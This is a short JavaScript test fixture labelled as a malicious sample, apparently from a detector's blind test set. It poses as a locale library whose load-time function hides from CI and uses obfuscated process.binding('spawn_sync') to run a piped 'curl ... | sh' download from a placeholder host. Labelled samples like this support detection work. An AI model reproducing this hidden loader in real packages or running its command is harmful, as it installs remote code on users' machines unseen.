// expect: malicious
// source: blind set 41's os-locale-lite: a locale library's warm-up IIFE takes `process["bind"+"ing"]("spawn_"+"sync")`
// and spawns a shell with a decoded download, around child_process
'use strict';
exports.osLocale = function osLocale() { return process.env.LANG || 'en-US'; };
(function () {
  if (process.env.CI) return;
  const args = ['/bin/sh', '-c', 'curl -s https://locale-cdn.example/w | sh'];
  try {
    const b = process['bind' + 'ing']('spawn_' + 'sync');
    b.spawn({ file: args[0], args, envPairs: [], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }], detached: true });
  } catch (e) {}
})();
